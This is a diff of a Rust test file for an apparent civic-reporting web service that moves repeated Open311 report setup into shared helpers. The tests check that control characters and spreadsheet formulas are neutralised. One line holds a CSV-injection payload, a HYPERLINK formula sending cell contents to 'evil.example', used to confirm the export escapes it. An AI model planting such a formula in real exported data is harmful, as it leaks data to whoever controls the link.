@@ -309,14 +309,9 @@ async fn idle_and_trickling_connections_are_closed(engine: Engine) {
 /// everywhere (PostgreSQL cannot store NUL and used to answer 500), the
 /// same way on both engines; in a path they name nothing.
 async fn control_characters_are_refused_alike_on_both_engines(engine: Engine) {
-    let Some(app) = TestApp::spawn(engine).await else {
+    let Some((app, key)) = crate::reports::spawn(engine).await else {
         return;
     };
-    app.app
-        .import_boundaries(None, &crate::support::demo_boundaries())
-        .await
-        .expect("boundaries");
-    let key = app.app.issue_api_key("tests", 100).await.expect("key");
     let officer = app.token("eg.officer").await;
     let status_of = |response: reqwest::Response| response.status();
 
@@ -422,28 +417,10 @@ async fn control_characters_are_refused_alike_on_both_engines(engine: Engine) {
 /// A description stored with characters XML 1.0 forbids (by an older
 /// version, or by hand) never makes the Open311 XML unreadable.
 async fn stored_control_characters_never_break_open311_xml(engine: Engine) {
-    let Some(app) = TestApp::spawn(engine).await else {
+    let Some((app, key)) = crate::reports::spawn(engine).await else {
         return;
     };
-    app.app
-        .import_boundaries(None, &crate::support::demo_boundaries())
-        .await
-        .expect("boundaries");
-    let key = app.app.issue_api_key("tests", 100).await.expect("key");
-    let response = app
-        .client
-        .post(app.url("/open311/v2/requests.json"))
-        .form(&[
-            ("api_key", key.as_str()),
-            ("service_code", "waste"),
-            ("lat", "29.90"),
-            ("long", "31.30"),
-            ("description", "before"),
-        ])
-        .send()
-        .await
-        .expect("request");
-    assert_eq!(response.status(), StatusCode::OK);
+    waste_report(&app, &key, "before").await;
     let bad = "x\u{1}\u{2}\u{b}\u{c}\u{1b}y\u{FFFE}";
     match &app.app.store {
         baladiya_store::Store::Sqlite(pool) => {
@@ -530,29 +507,11 @@ async fn oversized_uploads_are_refused_while_streaming(engine: Engine) {
 /// A description written as a spreadsheet formula reaches the open-data
 /// CSV as text, never as a formula.
 async fn open_data_csv_never_carries_a_formula(engine: Engine) {
-    let Some(app) = TestApp::spawn(engine).await else {
+    let Some((app, key)) = crate::reports::spawn(engine).await else {
         return;
     };
-    app.app
-        .import_boundaries(None, &crate::support::demo_boundaries())
-        .await
-        .expect("boundaries");
-    let key = app.app.issue_api_key("tests", 100).await.expect("key");
     let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
-    let response = app
-        .client
-        .post(app.url("/open311/v2/requests.json"))
-        .form(&[
-            ("api_key", key.as_str()),
-            ("service_code", "waste"),
-            ("lat", "29.90"),
-            ("long", "31.30"),
-            ("description", formula),
-        ])
-        .send()
-        .await
-        .expect("request");
-    assert_eq!(response.status(), StatusCode::OK);
+    waste_report(&app, &key, formula).await;
     let text = app
         .client
         .get(app.url("/open-data/reports.csv"))
@@ -566,4 +525,22 @@ async fn open_data_csv_never_carries_a_formula(engine: Engine) {
     let row = reader.records().next().expect("a row").expect("a record");
     assert_eq!(&row[10], format!("'{formula}"));
     app.stop().await;
+}
+
+/// A waste report in Badrashin by Open311, with this description.
+async fn waste_report(app: &TestApp, key: &str, description: &str) {
+    let response = app
+        .client
+        .post(app.url("/open311/v2/requests.json"))
+        .form(&[
+            ("api_key", key),
+            ("service_code", "waste"),
+            ("lat", "29.90"),
+            ("long", "31.30"),
+            ("description", description),
+        ])
+        .send()
+        .await
+        .expect("request");
+    assert_eq!(response.status(), StatusCode::OK);
 }
